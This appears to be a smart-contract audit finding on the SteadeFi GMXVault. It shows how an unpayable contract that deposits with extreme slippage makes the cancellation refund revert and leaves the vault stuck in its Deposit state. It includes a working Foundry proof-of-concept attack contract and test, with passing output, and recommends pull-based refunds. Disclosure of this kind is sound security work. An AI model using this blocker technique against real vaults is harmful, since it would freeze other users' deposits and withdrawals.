H-03. `GMXVault` can be blocked by a malicious actor

Relevant GitHub Links


GMXVault can be blocked by malicious actor if he made a depositNative call with unpayable contract and the deposit then cancelled by the GMX exchange router (3rd party).

Vulnerability Details

  • Users can deposit native tokens in vaults that either of its token pair is a WNT (wrapped native token) by calling GMXVault.depositNative payable function with the required deposit parameters (such as token, amount, minimum share amount, slippage & execution fees), then this function will invoke GMXDeposit.deposit with a msg.value equals the amount that the user wants to deposit + execution fees.
  • In GMXDeposit.deposit: various checks are made to ensure the sanity of the deposit parameters and the elligibility of the user to deposit, and to calculate the required tokenA & tokenB needed to deposit in the GMX protocol, then the sent native tokens are deposited in the WNT contract and an equivalent amount of WNT is transferred to the vault.
  • And before the call is made to the GMXManager.addLiquidity (where a call is going to be made to the GMX.exchangeRouter contract) to add liquidity; the status of the vault is checked if it's Open, if yes; then the status of the vault is set to Deposit so that no more deposits or withdrawls can be made (the vault will be blocked until the operation succeeds).
  • So if the operation succeeds in the GMX exchange router; the vault callback will invoke preocessDeposit function to finish the process and update the vault status to Open.• And if the operation of adding liquidity is cancelled by the GMX exchange router (3rd party); the vault callback will invoke processDepositCancellation function to rollback the process by repaying the lendingVaults debts and paying back the native tokens sent by the user, then update the vault status to Openso that the vault is open again for deposits and withdrawals.
  • Usually the deposit (liquidity addition to GMX protocol) fails if the user sets a very high slippage parameter when making a deposit (dp.slippage).
How can this be exploited to block the vault? Imagine the following scenario:
  1. If a malicious user deploys an unpayable contract (doesn't receive native tokens) and makes a call to the GMXVault.depositNative function with a very high slippage to ensure that the deposit will be cancelled by the GMX exchange router.
  1. So when the deposit is cancelled and the vault callback processDepositCancellation function is invoked by the router; it will revert as it will try to send back the native tokens to the user who tried to make the deposit (which is the unpayable contract in our case).
  1. And the status of the vault will be stuck in the Deposit state; so no more deposits or withdrawals can be made and the vault will be disabled.
  • The same scenario will happen if the user got blocklisted later by the deposited token contract (tokenA or tokenB), but the propability ofthis happening is very low as the GMX exchange router will add liquidity in two transactions with a small time separation between them!


The vault will be blocked as it will be stuck in the Deposit state; so no more deposits or withdrawals can be made.

Proof of Concept

Code Instances:

plain text
function depositNative(GMXTypes.DepositParams memory dp) external payable nonReentrant { GMXDeposit.deposit(_store, dp, true); }
plain text
_dc.user = payable(msg.sender);
plain text
(bool success, ) = self.depositCache.user.call{value: address(this).balance}(""); require(success, "Transfer failed.");

Foundry PoC:1. A BlockerContract.sol is added to mimick the behaviour of an unpayable contract.
add the following contract to the 2023-10-SteadeFi/test/gmx/local/BlockerContract.sol directory:
plain text
// SPDX-License-Identifier: MIT pragma solidity 0.8.21; import {GMXTypes} from "../../../contracts/strategy/gmx/GMXTypes.sol"; import {GMXVault} from "../../../contracts/strategy/gmx/GMXVault.sol"; contract BlockerContract { constructor() payable {} function callVault( address payable _vaultAddress, GMXTypes.DepositParams memory dp ) external { GMXVault targetVault = GMXVault(_vaultAddress); targetVault.depositNative{value: address(this).balance}(dp); } }1. test_processDepositCancelWillBlockVault test is added to to the 2023-10-SteadeFi/test/gmx/local/GMXDepositTest.sol directory; where the blockerContract is deployed with some native tokens to cover deposit amount + execution fees, then this contract calls the depositNative via BlockerContract.callVault, where the exchange router tries to cancel the deposit but it will not be able as the BlockerContract can't receive back deposited native tokens, and the vault will be blocked.
add this import statement and test to the GMXDepositTest.sol file :
plain text
import {BlockerContract} from "./BlockerContract.sol";
plain text
function test_processDepositCancelWillBlockVault() external { //1. deploy the blockerContract contract with a msg.value=deposit amount + execution fees: uint256 depositAmount = 1 ether; BlockerContract blockerContract = newBlockerContract{ value: depositAmount + EXECUTION_FEE }(); //check balance before deposit: uint256 blockerContractEthBalance = address(blockerContract).balance; assertEq(depositAmount + EXECUTION_FEE, blockerContractEthBalance); //2. preparing deposit params to call "depositNative" via the blockerContract: depositParams.token = address(WETH); depositParams.amt = depositAmount; depositParams.minSharesAmt = 0; depositParams.slippage = SLIPPAGE; depositParams.executionFee = EXECUTION_FEE; blockerContract.callVault(payable(address(vault)), depositParams); // vault status is "Deposit": assertEq(uint256(vault.store().status), 1); //3. the blockerContract tries to cancel the deposit, but it will not be able to do beacuse it's unpayable contract: vm.expectRevert(); mockExchangeRouter.cancelDeposit( address(WETH), address(USDC), address(vault), address(callback) ); // vault status will be stuck at "Deposit": assertEq(uint256(vault.store().status), 1); // check balance after cancelling the deposit, where it will be less than the original as no refund has been paid (the blockerContract is unpayable): assertLt(address(blockerContract).balance, blockerContractEthBalance); }
  1. Test result:
$ forge test --mt test_processDepositCancelWillBlockVault Running 1 test for test/gmx/local/GMXDepositTest.sol:GMXDepositTest[PASS] test_processDepositCancelWillBlockVault() (gas: 1419036) Test result: ok. 1 passed; 0 failed; 0 skipped; finished in 24.62ms Ran 1 test suites: 1 tests passed, 0 failed, 0 skipped (1 total tests)

Tools Used

Manual Review & Foundry.


Add a mechanism to enable the user from redeeming his cancelled deposits (pulling) instead ofsending it back to him (pushing).